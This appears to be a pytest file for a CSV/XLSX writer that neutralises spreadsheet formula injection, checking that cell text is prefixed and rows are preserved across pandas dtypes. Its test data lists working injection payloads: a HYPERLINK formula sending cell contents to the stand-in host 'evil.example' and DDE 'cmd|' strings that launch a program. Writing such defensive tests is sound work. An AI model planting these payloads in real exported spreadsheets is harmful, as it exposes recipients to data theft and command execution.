"""The one CSV/XLSX writer: formula text neutralised whatever the dtype, rows stay rows."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from gisgrid.io import TableWriter, csv_bytes, neutralise_frame, write_table, write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "学清路\r=1+1",  # a bare CR inside a value: the row must stay one row
    "第一行\n第二行",
    "-5",  # a plain number written as text is no formula
    "普通文本",
]
EXPECTED = ["'" + v for v in HOSTILE[:6]] + HOSTILE[6:]


def _frames():
    """The same text as object, pandas StringDtype and categorical columns."""
    yield pd.DataFrame({"text": pd.Series(HOSTILE, dtype=object), "n": range(len(HOSTILE))})
    yield pd.DataFrame({"text": pd.Series(HOSTILE, dtype="string"), "n": range(len(HOSTILE))})
    yield pd.DataFrame({"text": pd.Series(HOSTILE, dtype="str"), "n": range(len(HOSTILE))})
    yield pd.DataFrame({"text": pd.Categorical(HOSTILE), "n": range(len(HOSTILE))})


@pytest.mark.parametrize("frame", list(_frames()), ids=["object", "string", "str", "categorical"])
def test_csv_neutralises_every_text_dtype_and_keeps_rows(frame):
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"), newline="")))
    assert len(rows) == 1 + len(frame)
    assert [r[0] for r in rows[1:]] == EXPECTED
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(HOSTILE))]


@pytest.mark.parametrize("frame", list(_frames()), ids=["object", "string", "str", "categorical"])
def test_xlsx_stores_formula_text_as_text(tmp_path, frame):
    path = write_table(frame, tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(path).active  # not data_only: a formula would show as one
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    # some openpyxl versions read a stored CR back as LF: the text is the same, still neutralised
    assert [c.value.replace("\r", "\n") for c in sheet["A"][1:]] == [v.replace("\r", "\n") for v in EXPECTED]
    assert sheet.max_row == 1 + len(frame)


def test_header_is_neutralised_and_numbers_stay_numbers(tmp_path):
    frame = pd.DataFrame({"=cmd": ["a"], "lon": [114.2], "when": pd.to_datetime(["2026-03-01"])})
    text = csv_bytes(frame).decode("utf-8")
    assert text.splitlines() == ["'=cmd,lon,when", "a,114.2,2026-03-01T00:00:00"]
    sheet = openpyxl.load_workbook(write_table(frame, tmp_path / "t.xlsx")).active
    assert [c.value for c in sheet[1]] == ["'=cmd", "lon", "when"]
    assert sheet["B2"].value == 114.2


def test_chunks_share_one_header_and_number_columns_come_back_as_numbers(tmp_path):
    with TableWriter(tmp_path / "t.csv") as out:
        out.write(pd.DataFrame({"id": ["1", "=2"]}))
        out.write(pd.DataFrame({"id": ["3"]}))
    assert (tmp_path / "t.csv").read_bytes() == b"\xef\xbb\xbfid\n1\n'=2\n3\n"
    with TableWriter(tmp_path / "t.xlsx", number_columns=["id"]) as out:
        out.write(pd.DataFrame({"id": ["1", "x"]}))
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert [c.value for c in sheet["A"]] == ["id", 1, "x"]


def test_neutralise_frame_leaves_the_input_alone():
    frame = pd.DataFrame({"a": pd.Series(["=1", "b"], dtype="string")})
    safe = neutralise_frame(frame)
    assert safe["a"].tolist() == ["'=1", "b"] and frame["a"].tolist() == ["=1", "b"]


def test_workbook_sheets_are_neutralised(tmp_path):
    path = tmp_path / "w.xlsx"
    write_workbook(
        {"owners": pd.DataFrame({"owner": pd.Series(["=HYPERLINK(1)"], dtype="string")}), "x": pd.DataFrame()}, path
    )
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["owners", "x"]
    assert book["owners"]["A2"].value == "'=HYPERLINK(1)" and book["owners"]["A2"].data_type == "s"
